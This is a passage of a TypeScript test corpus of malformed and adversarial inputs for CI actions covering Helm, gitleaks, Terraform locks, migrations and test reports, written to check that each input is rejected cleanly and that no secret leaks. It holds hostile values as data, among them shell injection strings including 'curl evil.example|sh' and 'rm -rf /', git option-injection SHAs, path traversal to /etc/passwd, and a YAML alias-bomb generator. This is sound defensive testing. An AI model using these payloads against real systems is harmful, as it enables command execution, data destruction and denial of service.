// The bad-input corpus: inputs a new user mistypes and an adversarial one crafts, for every action. Each
// case runs through the local runner against the real bundle (bad-inputs.e2e.test.ts) and must end with the
// step failed, exactly one error line that names the input (or file) and what was expected, no stack
// trace, nothing written, no secret printed, and within a bounded time.
//
// trivy-scan and k8s-deploy-rollback keep their own tables next to their tests (they need a registry or
// kubectl set up); the corpus counts them, and their tests apply the same assertions.
import type { Outcome } from '@platform-actions/kit';

export interface CorpusCase {
  action: 'helm-validate' | 'gitleaks-scan' | 'tf-lock-check' | 'migration-test' | 'trivy-scan' | 'k8s-deploy-rollback' | 'test-report';
  name: string;
  inputs: Record<string, string>;
  /** What the one error line must say. */
  expect: RegExp;
  /** Default config-error: the input was rejected before any work. */
  outcome?: Outcome;
  event?: { name: string; payload: Record<string, unknown> };
  env?: Record<string, string>;
  /** Longest the step may take (default 20 s). */
  maxMs?: number;
  /** 'traps' runs in a workspace holding only a 36 MB .tf file and a 10,000-deep one. */
  workspace?: 'main' | 'traps';
  /**
   * A workspace of its own (a git repository): path → text, or `link:<target>` for a symlink. Values,
   * inputs and env may name `{outside}` (a folder outside every workspace, holding OUTSIDE_MARKER),
   * `{hang}`/`{hang2}` (host:port of servers that accept and never answer) and `{kubectl-sigkill}` /
   * `{kubectl-stop}` (the real kubectl, killed by SIGKILL or stopped shortly after it starts),
   * `{trivy-killed-dir}` (a folder whose `trivy` is the real one killed by SIGKILL), `{trivy-cache}` (a
   * cache-dir holding a current database) and `{PATH}` (the corpus PATH, with every real tool).
   */
  files?: Record<string, string>;
  /** Also matched against the step's log as a person sees it (e.g. the finding that names the file). */
  expectLog?: RegExp;
}

/** Given to every case as the `token` input where the action has one: it must never be printed. */
export const CORPUS_TOKEN = 'ghp_CorpusSecretToken0123456789abcdef';
/** The database password in migration-test URLs: it must never be printed, in any encoding. */
export const CORPUS_PASSWORD = 'p@ss/w:rd#%9x';
const enc = encodeURIComponent(CORPUS_PASSWORD);

// ---- Standard inputs, applied to every action that declares them (see standardCases()). ----
const SHELL = ['$(touch /tmp/pa-corpus-pwned)', '`id`', '1.0; rm -rf /', '1.0 && curl evil.example|sh', '--help'];
export function standardCases(action: CorpusCase['action'], declared: ReadonlySet<string>, versionInput: string | undefined): CorpusCase[] {
  const out: CorpusCase[] = [];
  const has = (i: string) => declared.has(i);
  if (has('fail-on')) {
    for (const v of ['hgh', 'HIGH!', 'critical,high', 'error'])
      out.push({ action, name: `fail-on ${JSON.stringify(v)}`, inputs: { 'fail-on': v }, expect: /input "fail-on" must be one of critical, high, medium, low, info, none/ });
  }
  if (has('comment')) out.push({ action, name: 'comment "yes"', inputs: { comment: 'yes' }, expect: /input "comment" must be true or false; got "yes"/ });
  for (const file of ['sarif-file', 'report-file'].filter(has)) {
    out.push({ action, name: `${file} is a directory`, inputs: { [file]: 'reports/' }, expect: new RegExp(`input "${file}" must be a file path, not a directory`) });
    out.push({
      action,
      name: `${file} escapes the workspace with ../`,
      inputs: { [file]: '../../../etc/pa-corpus.sarif' },
      expect: new RegExp(`input "${file}" must be a path inside the workspace`),
    });
    out.push({
      action,
      name: `${file} through a symlink leading outside`,
      inputs: { [file]: 'link-out/pa-corpus.sarif' },
      expect: new RegExp(`input "${file}" must be a path inside the workspace .*symlink that leads outside`),
    });
    out.push({ action, name: `${file} under a file`, inputs: { [file]: 'README.md/x.sarif' }, expect: new RegExp(`input "${file}" must be a path whose parent is a directory`) });
    // A dangling link: writing through it would create its target outside the workspace.
    out.push({
      action,
      name: `${file} through a dangling symlink leading outside`,
      inputs: { [file]: 'dangling-out.sarif' },
      expect: new RegExp(`input "${file}" must be a path inside the workspace .*symlink that leads outside`),
    });
  }
  if (versionInput) {
    for (const v of SHELL) out.push({ action, name: `${versionInput} ${JSON.stringify(v)}`, inputs: { [versionInput]: v }, expect: new RegExp(`input "${versionInput}" must be`) });
  }
  const mirror = ['mirror', 'helm-mirror'].find(has);
  if (mirror) {
    for (const v of ['ftp://mirror.example/releases', 'not a url', 'file:///etc/passwd'])
      out.push({ action, name: `${mirror} ${JSON.stringify(v)}`, inputs: { [mirror]: v }, expect: new RegExp(`input "${mirror}" must be an http\\(s\\) URL`) });
    out.push({
      action,
      name: `${mirror} with credentials`,
      inputs: { [mirror]: `https://robot:${enc}@mirror.example/r` },
      expect: new RegExp(`input "${mirror}" must not carry credentials`),
    });
    // The password as people paste it (/ @ # % unencoded), and a token as the user: never echoed.
    out.push({
      action,
      name: `${mirror} with an unencoded password`,
      inputs: { [mirror]: `https://robot:${CORPUS_PASSWORD}@mirror.example/r` },
      expect: new RegExp(`input "${mirror}" must (not carry credentials|be an http)`),
    });
    out.push({
      action,
      name: `${mirror} with a token as the user`,
      inputs: { [mirror]: `https://${CORPUS_TOKEN}@mirror.example/r` },
      expect: new RegExp(`input "${mirror}" must not carry credentials`),
    });
  }
  if (has('timeout')) {
    // tf-lock-check reads its timeout for `wait` only.
    const extra: Record<string, string> = action === 'tf-lock-check' ? { command: 'wait', 'working-directory': 'infra' } : {};
    for (const v of ['ten minutes', '-5m', '5 m', '1y'])
      out.push({ action, name: `timeout ${JSON.stringify(v)}`, inputs: { ...extra, timeout: v }, expect: /input "timeout" must be a duration such as 90s, 5m or 1h30m/ });
  }
  return out;
}

// ---- helm-validate ----
const helm: CorpusCase[] = [
  { action: 'helm-validate', name: 'charts outside the workspace', inputs: { charts: '../../..' }, expect: /input "charts" must be a path inside the workspace/ },
  {
    action: 'helm-validate',
    name: 'charts through a symlink leading outside',
    inputs: { charts: 'link-out' },
    expect: /input "charts" must be a path inside the workspace .*symlink/,
  },
  { action: 'helm-validate', name: 'charts that match nothing', inputs: { charts: 'chartz/*' }, expect: /input "charts" .*(matched no|no chart)/ },
  {
    action: 'helm-validate',
    name: 'a values file that does not exist',
    inputs: { charts: 'charts/web', 'values-files': 'values-prodution.yaml' },
    expect: /values-prodution\.yaml/,
  },
  {
    action: 'helm-validate',
    name: 'values file through a symlink leading outside',
    inputs: { charts: 'charts/linked', 'values-files': 'values-outside.yaml' },
    expect: /values-outside\.yaml is a symlink that leads outside the workspace/,
  },
  { action: 'helm-validate', name: 'kubernetes-versions we do not ship', inputs: { 'kubernetes-versions': '1.99' }, expect: /input "kubernetes-versions" .*1\.99/ },
  { action: 'helm-validate', name: 'kubernetes-versions not a version', inputs: { 'kubernetes-versions': 'latest' }, expect: /input "kubernetes-versions"/ },
  {
    action: 'helm-validate',
    name: 'validate-default-values "maybe"',
    inputs: { 'validate-default-values': 'maybe' },
    expect: /input "validate-default-values" must be true or false/,
  },
  { action: 'helm-validate', name: 'lint "on"', inputs: { lint: 'on' }, expect: /input "lint" must be true or false/ },
  { action: 'helm-validate', name: 'unknown-kinds "ignore"', inputs: { 'unknown-kinds': 'ignore' }, expect: /input "unknown-kinds" must be one of notice, fail/ },
  {
    action: 'helm-validate',
    name: 'severity-overrides for a rule that does not exist',
    inputs: { 'severity-overrides': 'probes-mising=off' },
    expect: /input "severity-overrides" .*probes-mising/,
  },
  {
    action: 'helm-validate',
    name: 'severity-overrides with an unknown severity',
    inputs: { 'severity-overrides': 'probes-missing=urgent' },
    expect: /input "severity-overrides" .*urgent/,
  },
  { action: 'helm-validate', name: 'severity-overrides without =', inputs: { 'severity-overrides': 'probes-missing' }, expect: /input "severity-overrides"/ },
  {
    action: 'helm-validate',
    name: 'exceptions-file that does not exist',
    inputs: { 'exceptions-file': 'exceptions.yml' },
    expect: /input "exceptions-file" must name an existing path/,
  },
  {
    action: 'helm-validate',
    name: 'exceptions-file through a symlink to /etc/passwd',
    inputs: { 'exceptions-file': 'passwd-link' },
    expect: /input "exceptions-file" must be a path inside the workspace/,
  },
  { action: 'helm-validate', name: 'exceptions-file that is a YAML bomb', inputs: { 'exceptions-file': 'bomb.yaml' }, expect: /exceptions-file|bomb\.yaml/ },
  { action: 'helm-validate', name: 'exceptions-file that is not UTF-8', inputs: { 'exceptions-file': 'latin1.yaml' }, expect: /exceptions-file|latin1\.yaml/ },
  { action: 'helm-validate', name: 'exceptions-file that is a directory', inputs: { 'exceptions-file': 'charts' }, expect: /input "exceptions-file" must name a file/ },
  { action: 'helm-validate', name: 'dependency-build "sometimes"', inputs: { 'dependency-build': 'sometimes' }, expect: /input "dependency-build" must be one of/ },
  {
    action: 'helm-validate',
    name: 'schemas outside the workspace',
    inputs: { charts: 'charts/web', schemas: '../../../etc' },
    expect: /input "schemas" .*(inside the workspace|https)/,
  },
  { action: 'helm-validate', name: 'schemas from plain http', inputs: { charts: 'charts/web', schemas: 'http://schemas.example/crds.yaml' }, expect: /input "schemas"/ },
  { action: 'helm-validate', name: 'release-name helm refuses', inputs: { 'release-name': 'Bad_Name;rm' }, expect: /input "release-name"/ },
  { action: 'helm-validate', name: 'namespace Kubernetes refuses', inputs: { namespace: 'UPPER case' }, expect: /input "namespace"/ },
];

// ---- gitleaks-scan ----
const gitleaks: CorpusCase[] = [
  { action: 'gitleaks-scan', name: 'mode "diff"', inputs: { mode: 'diff' }, expect: /input "mode" must be one of auto, range, full, dir/ },
  { action: 'gitleaks-scan', name: 'path outside the workspace', inputs: { path: '../../..' }, expect: /input "path" must be a path inside the workspace/ },
  { action: 'gitleaks-scan', name: 'path through a symlink leading outside', inputs: { path: 'link-out' }, expect: /input "path" must be a path inside the workspace .*symlink/ },
  { action: 'gitleaks-scan', name: 'config that does not exist', inputs: { config: 'gitleaks.tml' }, expect: /input "config" must name an existing path/ },
  {
    action: 'gitleaks-scan',
    name: 'config through a symlink to /etc/passwd',
    inputs: { config: 'passwd-link' },
    expect: /input "config" must be a path inside the workspace( or RUNNER_TEMP)?/,
  },
  { action: 'gitleaks-scan', name: 'baseline-path that does not exist', inputs: { 'baseline-path': 'baseline.json' }, expect: /input "baseline-path" must name an existing path/ },
  { action: 'gitleaks-scan', name: 'baseline-path that is not a gitleaks report', inputs: { 'baseline-path': 'README.md' }, expect: /input "baseline-path" .*(JSON|report)/ },
  { action: 'gitleaks-scan', name: 'deepen-limit negative', inputs: { 'deepen-limit': '-5' }, expect: /input "deepen-limit" must be a whole number/ },
  { action: 'gitleaks-scan', name: 'deepen-limit "lots"', inputs: { 'deepen-limit': 'lots' }, expect: /input "deepen-limit" must be a whole number/ },
  { action: 'gitleaks-scan', name: 'config-change "maybe"', inputs: { 'config-change': 'maybe' }, expect: /input "config-change" must be one of/ },
];

// ---- tf-lock-check ----
const tf: CorpusCase[] = [
  { action: 'tf-lock-check', name: 'command "lnt"', inputs: { command: 'lnt' }, expect: /input "command" must be one of lint, status, wait, recover/ },
  {
    action: 'tf-lock-check',
    name: 'working-directory outside the workspace',
    inputs: { 'working-directory': '../..' },
    expect: /input "working-directory" must be a path inside the workspace/,
  },
  {
    action: 'tf-lock-check',
    name: 'working-directory through a symlink leading outside',
    inputs: { 'working-directory': 'link-out' },
    expect: /input "working-directory" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'tf-lock-check',
    name: 'working-directory that does not exist',
    inputs: { 'working-directory': 'infra/prod' },
    expect: /input "working-directory" must name an existing path/,
  },
  {
    action: 'tf-lock-check',
    name: 'workspace that climbs into another bucket',
    inputs: { command: 'status', 'working-directory': 'infra', workspace: '../../other-bucket/x' },
    expect: /input "workspace"/,
  },
  { action: 'tf-lock-check', name: 'workspace with a slash', inputs: { command: 'status', 'working-directory': 'infra', workspace: 'team/prod' }, expect: /input "workspace"/ },
  { action: 'tf-lock-check', name: 'workspace with spaces', inputs: { command: 'recover', 'working-directory': 'infra', workspace: 'my prod' }, expect: /input "workspace"/ },
  { action: 'tf-lock-check', name: 'flavor "terragrunt"', inputs: { flavor: 'terragrunt' }, expect: /input "flavor" must be one of/ },
  {
    action: 'tf-lock-check',
    name: 'fail-if-locked "yes"',
    inputs: { command: 'status', 'working-directory': 'infra', 'fail-if-locked': 'yes' },
    expect: /input "fail-if-locked" must be true or false/,
  },
  {
    action: 'tf-lock-check',
    name: 'force-unlock-stale "y"',
    inputs: { command: 'status', 'working-directory': 'infra', 'force-unlock-stale': 'y' },
    expect: /input "force-unlock-stale" must be true or false/,
  },
  {
    action: 'tf-lock-check',
    name: 'stale-after "two hours"',
    inputs: { command: 'status', 'working-directory': 'infra', 'stale-after': 'two hours' },
    expect: /input "stale-after" must be a duration/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with a stale-after under the floor',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'stale-after': '30s' },
    expect: /input "stale-after"/,
  },
  { action: 'tf-lock-check', name: 'terraform-version "latest"', inputs: { 'terraform-version': 'latest' }, expect: /input "terraform-version"/ },
  {
    action: 'tf-lock-check',
    name: 'backend-config file that does not exist',
    inputs: { command: 'status', 'working-directory': 'infra', 'backend-config': 'prod.tfbackend' },
    expect: /input "backend-config" .*prod\.tfbackend/,
  },
  {
    action: 'tf-lock-check',
    name: 'backend-config through a symlink to /etc/passwd',
    inputs: { command: 'status', 'working-directory': 'infra', 'backend-config': '../passwd-link' },
    expect: /input "backend-config" .*inside the workspace/,
  },
  // Backend settings that would point a lock release at another object (a URL parser removes dot
  // segments): refused before any request, naming the setting and where it came from.
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key climbing into another bucket',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=../victim-bucket/prod/terraform.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, workspace_key_prefix climbing out',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'workspace_key_prefix=../../x', workspace: 'blue' },
    expect: /backend setting "workspace_key_prefix" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, bucket ".."',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'bucket=..' },
    expect: /backend setting "bucket" \(from the backend-config input\) must be an S3 bucket name/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with ./ segments',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=./envs/./dev.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, absolute key',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=/etc/x.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not start or end with "\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with a trailing /',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=envs/dev/' },
    expect: /backend setting "key" \(from the backend-config input\) must not start or end with "\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with //',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=envs//dev.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not contain "\/\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, region that moves the endpoint host',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'region=us-east-1.attacker.example#' },
    expect: /backend setting "region" \(from the backend-config input\) must be an AWS region/,
  },
  {
    action: 'tf-lock-check',
    name: 'a 36 MB .tf file',
    inputs: { 'working-directory': 'huge' },
    expect: /huge\/main\.tf/,
    outcome: 'config-error',
    maxMs: 30_000,
    workspace: 'traps',
  },
  {
    action: 'tf-lock-check',
    name: '10,000-deep nesting in a .tf file',
    inputs: { 'working-directory': 'deep' },
    expect: /deep\/main\.tf/,
    outcome: 'config-error',
    workspace: 'traps',
  },
];

// ---- migration-test ----
const mig: CorpusCase[] = [
  { action: 'migration-test', name: 'no database-url', inputs: {}, expect: /input "database-url" is required/ },
  {
    action: 'migration-test',
    name: 'database-url for MySQL',
    inputs: { 'database-url': `mysql://root:${enc}@127.0.0.1/app` },
    expect: /input "database-url" must use the postgres:\/\/ or postgresql:\/\/ scheme/,
  },
  { action: 'migration-test', name: 'database-url that is not a URL', inputs: { 'database-url': `host=db password=${CORPUS_PASSWORD}` }, expect: /input "database-url"/ },
  {
    action: 'migration-test',
    name: 'database-url without a password to a closed port (bounded, no prompt)',
    inputs: { 'database-url': 'postgresql://app@127.0.0.1:9/app', 'wait-timeout': '3s' },
    expect: /127\.0\.0\.1:9|database-url|connect/,
    outcome: 'tool-error',
    maxMs: 20_000,
  },
  { action: 'migration-test', name: 'tool "flyway"', inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'flyway' }, expect: /input "tool" must be one of/ },
  {
    action: 'migration-test',
    name: 'mode "roundtrip"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, mode: 'roundtrip' },
    expect: /input "mode" must be one of/,
  },
  {
    action: 'migration-test',
    name: 'down-steps "-1"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'down-steps': '-1' },
    expect: /input "down-steps" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'down-steps "all"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'down-steps': 'all' },
    expect: /input "down-steps" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'max-failures "many"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'max-failures': 'many' },
    expect: /input "max-failures" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'working-directory outside the workspace',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'working-directory': '../..' },
    expect: /input "working-directory" must be a path inside the workspace/,
  },
  {
    action: 'migration-test',
    name: 'working-directory through a symlink leading outside',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'working-directory': 'link-out' },
    expect: /input "working-directory" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'migration-test',
    name: 'seed-dir outside the workspace',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'seed-dir': '../../etc' },
    expect: /input "seed-dir" must be a path inside the workspace/,
  },
  {
    action: 'migration-test',
    name: 'column-order "loose"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'column-order': 'loose' },
    expect: /input "column-order" must be one of separate, strict, logical/,
  },
  {
    action: 'migration-test',
    name: 'url-env that is not a variable name',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'url-env': 'DATABASE-URL;id' },
    expect: /input "url-env"/,
  },
  {
    action: 'migration-test',
    name: 'statement-timeout "forever"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'statement-timeout': 'forever' },
    expect: /input "statement-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'wait-timeout "soon"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'wait-timeout': 'soon' },
    expect: /input "wait-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'command-timeout "x"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'command-timeout': 'x' },
    expect: /input "command-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'lint "maybe"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, lint: 'maybe' },
    expect: /input "lint" must be true or false/,
  },
  {
    action: 'migration-test',
    name: 'custom tool without up-command',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'custom' },
    expect: /input "up-command"/,
  },
  {
    action: 'migration-test',
    name: 'django without django-app',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'django' },
    expect: /input "django-app"/,
  },
];

// ---- test-report ----
const JR = { junit: 'reports/junit.xml' };
const testReport: CorpusCase[] = [
  { action: 'test-report', name: 'neither junit nor coverage', inputs: {}, expect: /input "junit" or input "coverage" must name at least one report/ },
  {
    action: 'test-report',
    name: 'min-coverage "eighty"',
    inputs: { coverage: 'c.xml', 'min-coverage': 'eighty' },
    expect: /input "min-coverage" must be a percentage from 0 to 100/,
  },
  { action: 'test-report', name: 'min-coverage 120', inputs: { coverage: 'c.xml', 'min-coverage': '120' }, expect: /input "min-coverage" must be a percentage from 0 to 100/ },
  { action: 'test-report', name: 'min-pass-rate -1', inputs: { ...JR, 'min-pass-rate': '-1' }, expect: /input "min-pass-rate" must be a percentage from 0 to 100/ },
  { action: 'test-report', name: 'min-coverage without coverage', inputs: { ...JR, 'min-coverage': '80' }, expect: /input "min-coverage" needs the coverage input/ },
  { action: 'test-report', name: 'fail-on-decrease "yes"', inputs: { coverage: 'c.xml', 'fail-on-decrease': 'yes' }, expect: /input "fail-on-decrease" must be true or false/ },
  { action: 'test-report', name: 'fail-on-decrease without coverage', inputs: { ...JR, 'fail-on-decrease': 'true' }, expect: /input "fail-on-decrease" needs the coverage input/ },
  {
    action: 'test-report',
    name: 'coverage-metric "statements"',
    inputs: { coverage: 'c.xml', 'coverage-metric': 'statements' },
    expect: /input "coverage-metric" must be one of lines, branches, combined/,
  },
  { action: 'test-report', name: 'slowest 1000', inputs: { ...JR, slowest: '1000' }, expect: /input "slowest" must be a whole number in 0\.\.100/ },
  { action: 'test-report', name: 'name with shell syntax', inputs: { ...JR, name: 'backend; rm -rf /' }, expect: /input "name" must be a short label/ },
  { action: 'test-report', name: 'junit outside the workspace', inputs: { junit: '../../../etc/passwd' }, expect: /input "junit" must be a path inside the workspace/ },
  { action: 'test-report', name: 'junit glob that starts outside the workspace', inputs: { junit: '../../**/*.xml' }, expect: /input "junit" must be a path inside the workspace/ },
  {
    action: 'test-report',
    name: 'junit through a symlink to /etc/passwd',
    inputs: { junit: 'passwd-link' },
    expect: /input "junit" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'test-report',
    name: 'junit naming a folder',
    inputs: { junit: 'reports' },
    expect: /input "junit" must name report files or globs, not a folder \(for example reports\/\*\.xml\)/,
  },
  {
    action: 'test-report',
    name: 'junit naming a Markdown file',
    inputs: { junit: 'README.md' },
    expect: /input "junit" must name JUnit XML reports; README\.md is not a format test-report reads/,
  },
  {
    action: 'test-report',
    name: 'coverage naming a Helm values file',
    inputs: { coverage: 'charts/web/values.yaml' },
    expect: /input "coverage" must name Cobertura XML, LCOV or coverage\.py JSON reports; charts\/web\/values\.yaml is/,
  },
  {
    action: 'test-report',
    name: 'coverage naming a file that is not UTF-8',
    inputs: { coverage: 'latin1.yaml' },
    expect: /input "coverage" must name Cobertura XML, LCOV or coverage\.py JSON reports; latin1\.yaml is/,
  },
  {
    action: 'test-report',
    name: 'base-report outside the workspace',
    inputs: { coverage: 'c.xml', 'base-report': '../../../etc/base.json' },
    expect: /input "base-report" must be a path inside the workspace .*or RUNNER_TEMP/,
  },
  {
    action: 'test-report',
    name: 'junit pattern that matches nothing',
    inputs: { junit: 'reports/*.xml' },
    expect: /no JUnit report matched "reports\/\*\.xml" \(input junit\): the test step did not write one there/,
    outcome: 'tool-error',
  },
];

// ---- Event payloads that try to become arguments: never run, never a crash. ----
const EVIL_SHA = '--upload-pack=touch /tmp/pa-corpus-pwned';
export const payloadCases: Array<{ name: string; event: { name: string; payload: Record<string, unknown> } }> = [
  { name: 'push with option-shaped SHAs', event: { name: 'push', payload: { before: EVIL_SHA, after: EVIL_SHA, commits: [{}] } } },
  {
    name: 'pull_request with option-shaped SHAs',
    event: {
      name: 'pull_request',
      payload: { number: 1, pull_request: { number: 1, base: { sha: EVIL_SHA, ref: 'main' }, head: { sha: EVIL_SHA, ref: '--output=/tmp/pa-corpus-pwned' } } },
    },
  },
  { name: 'pull_request without a PR object', event: { name: 'pull_request', payload: { number: 'x' } } },
  {
    name: 'merge_group with non-hex SHAs',
    event: { name: 'merge_group', payload: { merge_group: { base_sha: 'HEAD~1', head_sha: '$(id)', base_ref: 'refs/heads/main', head_ref: 'x' } } },
  },
];

// ---- Boundaries: nothing read outside the workspace, no secret in any message, every wait bounded. ----

/** The content of the files `{outside}` holds: it must never be printed, in any encoding. */
export const OUTSIDE_MARKER = 'OUTSIDE-CONTENT-7f3a9c41';
/** The password in kubeconfig server URLs, webhook and smoke URLs: never printed, in any encoding. */
export const URL_PASSWORD = 'kube/Adm1n:p@ss%w0rd';
const urlPw = encodeURIComponent(URL_PASSWORD);

/** A billion-laughs document: `levels` anchors, each a list of nine aliases of the one before. */
function yamlBomb(levels = 9): string {
  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < levels; i++)
    lines.push(
      `a${i}: &a${i} [${Array(9)
        .fill(`*a${i - 1}`)
        .join(',')}]`,
    );
  return lines.join('\n') + '\n';
}
const BOMB = yamlBomb();
const DEEP = `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`;
const RECURSIVE = 'a: &a [1, *a]\n';
const CHART_YAML = (name: string) => `apiVersion: v2\nname: ${name}\nversion: 0.1.0\n`;
const CM = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\ndata: {}\n';
const TF = 'terraform {\n  backend "s3" {\n    bucket = "tfstate"\n    key = "envs/dev/terraform.tfstate"\n    region = "us-east-1"\n    use_lockfile = true\n  }\n}\n';

/** A kubeconfig for `server` (extra lines go under the cluster). */
const kubeconfig = (server: string, extra = ''): string =>
  `apiVersion: v1\nkind: Config\nclusters:\n  - name: c\n    cluster:\n      server: ${server}\n      insecure-skip-tls-verify: true\n${extra}users:\n  - name: u\n    user:\n      token: not-a-real-token-0123456789\ncontexts:\n  - name: c\n    context: {cluster: c, user: u}\ncurrent-context: c\n`;
const closedKube = kubeconfig('https://127.0.0.1:1');

const helmB: CorpusCase[] = [
  {
    action: 'helm-validate',
    name: 'a values file that is a YAML alias bomb',
    files: { 'charts/b/Chart.yaml': CHART_YAML('b'), 'charts/b/templates/cm.yaml': CM, 'charts/b/values-bomb.yaml': BOMB },
    inputs: { charts: 'charts/b', 'values-files': 'values-bomb.yaml' },
    expect: /charts\/b\/values-bomb\.yaml expands through its aliases to more than 1,000,000 extra nodes/,
    maxMs: 10_000,
  },
  {
    action: 'helm-validate',
    name: 'a values file nested 10,000 deep',
    files: { 'charts/b/Chart.yaml': CHART_YAML('b'), 'charts/b/templates/cm.yaml': CM, 'charts/b/values-deep.yaml': DEEP },
    inputs: { charts: 'charts/b', 'values-files': 'values-deep.yaml' },
    expect: /charts\/b\/values-deep\.yaml nests collections deeper than 128 levels/,
    maxMs: 10_000,
  },
  {
    action: 'helm-validate',
    name: "a chart's own values.yaml that is a YAML alias bomb",
    files: { 'charts/b/Chart.yaml': CHART_YAML('b'), 'charts/b/templates/cm.yaml': CM, 'charts/b/values.yaml': BOMB },
    inputs: { charts: 'charts/b' },
    expect: /charts\/b\/values\.yaml expands through its aliases/,
    maxMs: 10_000,
  },
  {
    action: 'helm-validate',
    name: 'a Chart.yaml that is a YAML alias bomb',
    files: { 'charts/b/Chart.yaml': `apiVersion: v2\nname: b\nversion: 0.1.0\n${BOMB}`, 'charts/b/templates/cm.yaml': CM },
    inputs: { charts: 'charts/b' },
    expect: /charts\/b\/Chart\.yaml expands through its aliases/,
    maxMs: 10_000,
  },
  {
    action: 'helm-validate',
    name: 'a Chart.yaml with a recursive alias',
    files: { 'charts/b/Chart.yaml': `apiVersion: v2\nname: b\nversion: 0.1.0\n${RECURSIVE}`, 'charts/b/templates/cm.yaml': CM },
    inputs: { charts: 'charts/b' },
    expect: /charts\/b\/Chart\.yaml has a recursive alias/,
  },
  {
    action: 'helm-validate',
    name: 'exceptions-file nested 10,000 deep',
    files: { 'ex.yaml': DEEP },
    inputs: { 'exceptions-file': 'ex.yaml' },
    expect: /ex\.yaml nests collections deeper/,
  },
  {
    action: 'helm-validate',
    name: 'exceptions-file with a recursive alias',
    files: { 'ex.yaml': RECURSIVE },
    inputs: { 'exceptions-file': 'ex.yaml' },
    expect: /ex\.yaml has a recursive alias/,
  },
  {
    action: 'helm-validate',
    name: 'a chart template that is a symlink leading outside',
    files: { 'charts/l/Chart.yaml': CHART_YAML('l'), 'charts/l/templates/cm.yaml': 'link:{outside}/secret.txt' },
    inputs: { charts: 'charts/l' },
    expect: /charts\/l\/templates\/cm\.yaml is a symlink that leads outside the workspace; helm would read it/,
  },
  {
    action: 'helm-validate',
    name: 'exceptions-file through a dangling symlink leading outside',
    files: { 'ex.yaml': 'link:{outside}/no-such-exceptions.yaml' },
    inputs: { 'exceptions-file': 'ex.yaml' },
    expect: /input "exceptions-file" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'helm-validate',
    name: 'schemas URL carrying a password (unreachable)',
    files: { 'charts/web/Chart.yaml': CHART_YAML('web'), 'charts/web/templates/cm.yaml': CM },
    inputs: { charts: 'charts/web', schemas: `https://user:${urlPw}@127.0.0.1:9/crds.yaml` },
    expect: /schemas|crds\.yaml/,
    outcome: 'tool-error',
  },
];

const gitleaksB: CorpusCase[] = [
  {
    action: 'gitleaks-scan',
    name: 'a committed .gitleaks.toml that links outside the workspace',
    files: { 'README.md': '# x\n', '.gitleaks.toml': 'link:{outside}/config.toml' },
    inputs: {},
    expect: /^gitleaks-scan: \.gitleaks\.toml is a symlink that leads outside the workspace; it is not read/,
  },
  {
    action: 'gitleaks-scan',
    name: 'a committed gitleaks.toml that links outside the workspace',
    files: { 'README.md': '# x\n', 'gitleaks.toml': 'link:{outside}/config.toml' },
    inputs: {},
